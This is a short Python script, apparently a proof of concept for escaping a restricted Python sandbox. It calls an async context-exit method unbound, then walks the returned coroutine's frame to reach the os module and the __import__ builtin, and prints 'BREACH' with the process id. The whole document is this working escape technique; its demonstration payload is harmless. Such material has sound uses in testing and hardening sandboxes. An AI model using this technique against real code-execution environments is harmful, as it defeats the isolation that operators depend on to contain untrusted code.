import contextlib
@contextlib.asynccontextmanager
async def manager():
    yield 1
found = manager()
g = contextlib.AsyncExitStack.__aexit__(contextlib.AsyncExitStack(), None, None, None)
print("BREACH", g.cr_frame.f_globals["os"].getpid(), g.cr_frame.f_builtins["__import__"]("os").getpid())
